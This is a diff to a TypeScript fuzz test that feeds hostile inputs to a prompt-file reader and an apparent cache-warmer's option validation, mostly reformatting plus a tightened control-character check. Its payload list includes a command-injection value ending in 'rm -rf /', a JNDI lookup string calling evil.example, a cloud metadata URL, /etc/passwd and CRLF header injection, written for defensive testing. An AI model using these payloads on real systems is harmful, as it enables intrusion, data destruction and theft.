@@ -26,7 +26,7 @@ const nasty = fc.constantFrom(
   "file:///etc/passwd",
   "http://169.254.169.254/latest/meta-data",
   "blue; rm -rf /",
-  "\${jndi:ldap://evil.example}",
+  "%7bjndi:ldap://evil.example%7d",
   "%0d%0aHost:%20evil.example",
   "__proto__",
   "constructor",
@@ -34,7 +34,23 @@ const nasty = fc.constantFrom(
   "\ud800",
 );
 const text = fc.oneof(nasty, fc.string({ unit: "binary" }));
-const key = fc.oneof(nasty, fc.constantFrom("id", "time", "source", "detail", "detail-type", "color", "alarmData", "state", "Records", "Sns", "Message", "DeploymentId"));
+const key = fc.oneof(
+  nasty,
+  fc.constantFrom(
+    "id",
+    "time",
+    "source",
+    "detail",
+    "detail-type",
+    "color",
+    "alarmData",
+    "state",
+    "Records",
+    "Sns",
+    "Message",
+    "DeploymentId",
+  ),
+);
 const anything = fc.oneof(
   text,
   fc.anything({ withBigInt: true, withNullPrototype: true, withDate: true, withMap: true }),
@@ -42,10 +58,12 @@ const anything = fc.oneof(
 );
 
 const WORDS_MAX = 600;
+/** Controls, and the marks that turn the direction of a line. */
+const CONTROLS = /[\p{Cc}\u202a-\u202e]/u;
 /** A terminal, a log and a mail show it: no control characters, and no end of it. */
 function expectFewWords(message: string): void {
   expect(message.length).toBeLessThanOrEqual(WORDS_MAX);
-  expect(message).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
+  expect([...message].filter((letter) => CONTROLS.test(letter) && letter !== "\n")).toEqual([]);
 }
 const settings = { seed: 11, numRuns: 400 };
 
@@ -99,7 +117,11 @@ describe("whatever arrives", () => {
       fc.constantFrom("model", "system", "messages", "tools", "max_tokens", "thinking", CANARY),
       fc.oneof(fc.constant(CANARY), fc.constant([{ type: "text", text: CANARY }]), fc.jsonValue(), text),
     );
-    const file = fc.oneof(body.map((value) => JSON.stringify(value)), text, fc.constant(`{"system":"${CANARY}`));
+    const file = fc.oneof(
+      body.map((value) => JSON.stringify(value)),
+      text,
+      fc.constant(`{"system":"${CANARY}`),
+    );
     fc.assert(
       fc.property(file, (value) => {
         const read = readPromptFile(value);
@@ -118,7 +140,13 @@ describe("whatever arrives", () => {
       expected: { prefixes: 2, tokensPerPrefix: 4_000, model: "claude-sonnet-5-5", ttl: "5m" },
       costGuardrails: { maxHourlyFillCost: 1, maxDailyFillCost: 5 },
     };
-    const field = fc.constantFrom(...Object.keys(sound), "concurrency", "notify", "keepPreviousFor", "policy");
+    const field = fc.constantFrom(
+      ...Object.keys(sound),
+      "concurrency",
+      "notify",
+      "keepPreviousFor",
+      "policy",
+    );
     fc.assert(
       fc.property(field, fc.oneof(text, fc.jsonValue(), fc.double()), (name, value) => {
         const options = { ...sound, [name]: value } as unknown as WarmerOptions;
